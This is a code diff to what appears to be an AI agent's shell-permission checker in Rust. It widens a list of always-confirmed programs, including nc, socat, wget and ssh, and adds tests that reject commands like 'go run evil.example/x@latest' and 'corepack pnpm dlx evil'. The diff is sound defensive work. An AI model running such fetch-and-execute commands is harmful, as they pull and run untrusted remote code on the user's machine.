@@ -60,7 +60,7 @@ const PROGRAMS: &[Program] = &[
     Program {
         names: &["go"],
         needs_subcommand: true,
-        harmful_subcommands: "env generate tool",
+        harmful_subcommands: "env generate get install run tool",
         options: "-bench -benchmem -count -cover -failfast -json -list -parallel -race -run -short -tags -timeout -v -x",
         letters: "",
     },
@@ -105,15 +105,17 @@ const RUNNERS: &str = "bash bunx csh dash fish ksh lua mksh node nodejs npx perl
 
 /// Programs that run their arguments as a command, run code from their arguments, or start a program that an option
 /// names. A pattern with a `*` never allows a command of these programs.
-const ALWAYS_ASKED: &str = ". ack ag ansible at awk bat batch bsdtar builtin bun bundle busybox bwrap caffeinate cc chroot chrt \
-                            clang cmake cmd command coproc crontab dbus-run-session deno direnv doas docker dotnet ed emacs \
-                            emacsclient entr env eval ex exec expect fakeroot fd fdfind firejail flock g++ gawk gcc gcov gdb \
-                            gosu gradle gtar hg hyperfine ionice java jshell just kubectl less lldb ltrace man mawk more mvn \
-                            mysql nawk nc ncat nice ninja nix-shell nodemon nohup nsenter numactl nvim osascript parallel perf \
-                            pip pipx pkexec podman poetry powershell prlimit proot psql pwsh rake rclone rr rsync runuser \
-                            rustc rvim scp screen script sed setarch setpriv setsid sftp socat sort source split sqlite ssh \
-                            ssh-agent sshpass stdbuf strace su sudo svn systemd-run tar taskset tcpdump time timeout tmux \
-                            toybox unbuffer unshare uv valgrind vi view vim watch watchexec wget wsl xargs xvfb-run zip";
+const ALWAYS_ASKED: &str = ". ack ag ansible asdf at awk bat batch bsdtar builtin bun bundle busybox bwrap caffeinate \
+                            cc chroot chrt clang cmake cmd command conda coproc corepack crontab dbus-run-session deno \
+                            direnv doas docker dotnet ed emacs emacsclient entr env eval ex exec expect fakeroot fd \
+                            fdfind firejail flock g++ gawk gcc gcov gdb gosu gradle gtar hatch hg hyperfine ionice \
+                            java jshell just kubectl less lldb ltrace man mawk mise more mvn mysql nawk nc ncat nice \
+                            ninja nix nix-shell nodemon nodenv nohup nsenter numactl nvim osascript parallel pdm perf \
+                            pip pipx pixi pkexec podman poetry powershell prlimit proot psql pwsh pyenv rake rbenv \
+                            rclone rr rsync runuser rustc rustup rvim rye scp screen script sed setarch setpriv setsid \
+                            sftp socat sort source split sqlite ssh ssh-agent sshpass stdbuf strace su sudo svn \
+                            systemd-run tar taskset tcpdump time timeout tmux toybox unbuffer unshare uv valgrind vi \
+                            view vim volta watch watchexec wget wsl xargs xvfb-run zip";
 
 /// The words of a command that a pattern with a `*` has to contain to allow it.
 enum Rule {
@@ -169,7 +171,12 @@ pub(super) fn says_what_runs(pattern: &str, command: &str) -> bool {
         Rule::AlwaysAsk => false,
         Rule::Runner => subcommand.is_some(),
         Rule::Program(program) => {
+            // The pattern can contain the package or the file.
+            let runs_named = program.names.contains(&"go")
+                && subcommand == Some(&"run")
+                && literal_words.get(2).is_some_and(|word| !word.starts_with('-'));
             let named = match subcommand {
+                Some(_) if runs_named => true,
                 Some(word) => !is_listed(program.harmful_subcommands, word),
                 None => !program.needs_subcommand,
             };
@@ -431,6 +438,10 @@ mod tests {
             ("npm run *:fast", "npm run test:fast", true),
             ("npm run:*", "npm run build --script-shell=evil", false),
             ("npm exec:*", "npm exec evil", false),
+            ("go run:*", "go run evil.example/x@latest", false),
+            ("go run ./cmd/x:*", "go run ./cmd/x -v", true),
+            ("go install:*", "go install evil.example/x@latest", false),
+            ("corepack:*", "corepack pnpm dlx evil", false),
             ("go test:*", "go test -race ./x", true),
             ("go test:*", "go test -toolexec evil ./x", false),
             // When the shell expands a wildcard, a file name might look like an option, such as `-execdir`.
